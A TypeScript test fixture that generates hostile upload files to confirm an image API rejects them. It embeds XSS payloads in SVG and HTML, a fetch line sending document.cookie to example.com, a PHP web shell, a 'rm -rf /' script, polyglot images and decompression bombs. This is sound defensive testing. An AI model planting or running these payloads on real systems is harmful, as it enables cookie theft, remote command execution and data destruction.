import { randomBytes } from 'node:crypto'
import { deflateSync, gzipSync } from 'node:zlib'
import { crc32 } from 'node:zlib'
import { plain, photograph } from '#tests/helpers/pictures'

export type HostileFile = { title: string; name: string; bytes: Buffer }

const text = (content: string) => Buffer.from(content, 'latin1')

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const HTML = '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'
const PHP = '<?php system($_GET["c"]); ?>'

/** What came with the name of a picture and is none. */
function impostors(): HostileFile[] {
  const contents: Record<string, Buffer> = {
    'an SVG': text(SVG),
    'an SVG with a prologue': text(`<?xml version="1.0"?>\n${SVG}`),
    'a page': text(HTML),
    'a script': text('fetch("https://example.com/" + document.cookie)'),
    'a PHP file': text(PHP),
    'a shell script': text('#!/bin/sh\nrm -rf /\n'),
    'a PDF': text('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n'),
    'an archive': zip(),
    'a compressed picture': gzipSync(text(SVG)),
    'a program for Windows': Buffer.concat([text('MZ'), randomBytes(512)]),
    'a program for Linux': Buffer.concat([text('\x7fELF'), randomBytes(512)]),
    'a GIF': text(
      'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;'
    ),
    'a bitmap': Buffer.concat([text('BM'), randomBytes(200)]),
    'a TIFF': Buffer.concat([text('II*\x00'), randomBytes(200)]),
    'a film': Buffer.concat([text('\x00\x00\x00\x18ftypmp42'), randomBytes(200)]),
    'an HEIC': Buffer.concat([text('\x00\x00\x00\x18ftypheic'), randomBytes(200)]),
    'a sound in a RIFF': Buffer.concat([text('RIFF\x40\x00\x00\x00WAVEfmt '), randomBytes(64)]),
    'nothing': Buffer.alloc(0),
    'one byte': Buffer.from([0xff]),
    'blanks': Buffer.alloc(4096, 0x20),
    'zeros': Buffer.alloc(4096),
    'noise': randomBytes(4096),
    'the signature of a JPEG alone': Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    'the signature of a JPEG and a page': Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      text(HTML),
    ]),
    'the signature of a PNG and an SVG': Buffer.concat([PNG_SIGNATURE, text(SVG)]),
    'the signature of a WebP and PHP': Buffer.concat([
      text('RIFF\xff\x00\x00\x00WEBPVP8 '),
      text(PHP),
    ]),
  }
  return Object.entries(contents).map(([title, bytes]) => ({ title, name: 'photo.jpg', bytes }))
}

/** Real pictures that carry something else, or that are broken. */
async function tampered(): Promise<HostileFile[]> {
  const photo = await photograph({ width: 400, height: 300 })
  const pictures = {
    jpg: await photo.clone().jpeg().toBuffer(),
    png: await photo.clone().png().toBuffer(),
    webp: await photo.clone().webp().toBuffer(),
  }
  const files: HostileFile[] = []
  for (const [extension, bytes] of Object.entries(pictures)) {
    const add = (title: string, content: Buffer) =>
      files.push({ title: `${extension} ${title}`, name: `photo.${extension}`, bytes: content })
    add('with a page behind it', Buffer.concat([bytes, text(HTML)]))
    add('with PHP behind it', Buffer.concat([bytes, text(PHP)]))
    add('with an archive behind it', Buffer.concat([bytes, zip()]))
    add('with a script behind it', Buffer.concat([bytes, text('alert(1)')]))
    add('with a program behind it', Buffer.concat([bytes, text('MZ'), randomBytes(2000)]))
    add('with a picture and an archive behind it', Buffer.concat([bytes, pictures.jpg, zip()]))
    for (const share of [0.2, 0.5, 0.9, 0.99]) {
      add(`cut off at ${share * 100} %`, bytes.subarray(0, Math.floor(bytes.length * share)))
    }
  }
  files.push(
    {
      title: 'JPEG with a script in its comment',
      name: 'a.jpg',
      bytes: jpegComment(pictures.jpg, HTML),
    },
    { title: 'JPEG with PHP in its comment', name: 'a.jpg', bytes: jpegComment(pictures.jpg, PHP) },
    {
      title: 'JPEG that is a PDF too',
      name: 'a.jpg',
      bytes: jpegComment(pictures.jpg, '%PDF-1.7\n'),
    },
    { title: 'PNG with a script in its text', name: 'a.png', bytes: pngText(pictures.png, HTML) },
    { title: 'PNG with an SVG in its text', name: 'a.png', bytes: pngText(pictures.png, SVG) },
    {
      title: 'PNG whose chunks lie about their length',
      name: 'a.png',
      bytes: lyingPng(pictures.png),
    }
  )
  return files
}

/** Small files that would fill the memory. */
async function bombs(): Promise<HostileFile[]> {
  const small = await plain({ width: 64, height: 64 }).jpeg().toBuffer()
  const white = plain({ width: 6400, height: 6400 }, '#ffffff')
  return [
    { title: 'PNG of 20,000 × 20,000', name: 'a.png', bytes: hugePng(20_000, 20_000) },
    { title: 'PNG of 50,001 × 1,000', name: 'a.png', bytes: hugePng(50_001, 1000) },
    {
      title: 'PNG that claims to be endless',
      name: 'a.png',
      bytes: hugePng(2 ** 31 - 1, 2 ** 31 - 1, 10),
    },
    { title: 'PNG of 60,000 × 2', name: 'a.png', bytes: hugePng(60_000, 2) },
    { title: 'PNG of 2 × 60,000', name: 'a.png', bytes: hugePng(2, 60_000) },
    { title: 'PNG of 5,000 × 2', name: 'a.png', bytes: hugePng(5000, 2) },
    { title: 'PNG of no size', name: 'a.png', bytes: hugePng(0, 0, 1) },
    {
      title: 'interlaced PNG of 41 megapixels',
      name: 'a.png',
      bytes: await white.clone().png({ progressive: true, palette: true }).toBuffer(),
    },
    {
      title: 'WebP of 41 megapixels',
      name: 'a.webp',
      bytes: await white.clone().webp({ effort: 0 }).toBuffer(),
    },
    { title: 'JPEG that claims 65,500 × 65,500', name: 'a.jpg', bytes: resizedJpeg(small, 65_500) },
  ]
}

/** Files nobody should get past the API, made by code: every one is refused and leaves nothing behind. */
export async function hostileFiles(): Promise<HostileFile[]> {
  return [...impostors(), ...(await tampered()), ...(await bombs())]
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

function pngChunk(name: string, data: Buffer) {
  const body = Buffer.concat([text(name), data])
  const chunk = Buffer.alloc(body.length + 8)
  chunk.writeUInt32BE(data.length, 0)
  body.copy(chunk, 4)
  chunk.writeUInt32BE(crc32(body), body.length + 4)
  return chunk
}

/** One bit a pixel, all black: 20,000 × 20,000 in 50 kB. */
export function hugePng(width: number, height: number, rows = height) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  const rowLength = 1 + Math.ceil(Math.min(width, 100_000) / 8)
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(rowLength * rows))),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

function pngText(png: Buffer, content: string) {
  const afterHeader = PNG_SIGNATURE.length + 25
  const chunk = pngChunk('tEXt', text(`Comment\0${content}`))
  return Buffer.concat([png.subarray(0, afterHeader), chunk, png.subarray(afterHeader)])
}

function lyingPng(png: Buffer) {
  const copy = Buffer.from(png)
  copy.writeUInt32BE(0x7fffffff, PNG_SIGNATURE.length + 25)
  return copy
}

function jpegComment(jpeg: Buffer, content: string) {
  const comment = Buffer.alloc(4)
  comment.writeUInt16BE(0xfffe, 0)
  comment.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), comment, text(content), jpeg.subarray(2)])
}

/** Writes another size into the frame header (SOF0 or SOF2). */
function resizedJpeg(jpeg: Buffer, side: number) {
  const copy = Buffer.from(jpeg)
  const frame = [0xc0, 0xc2]
    .map((sof) => copy.indexOf(Buffer.from([0xff, sof])))
    .find((at) => at > 0)!
  copy.writeUInt16BE(side, frame + 5)
  copy.writeUInt16BE(side, frame + 7)
  return copy
}

/** An archive with one file and nothing in it. */
function zip() {
  const name = 'a.txt'
  const local = Buffer.alloc(30 + name.length)
  local.writeUInt32BE(0x504b0304, 0)
  local.writeUInt16LE(name.length, 26)
  local.write(name, 30)
  const central = Buffer.alloc(46 + name.length)
  central.writeUInt32BE(0x504b0102, 0)
  central.writeUInt16LE(name.length, 28)
  central.write(name, 46)
  const end = Buffer.alloc(22)
  end.writeUInt32BE(0x504b0506, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, end])
}
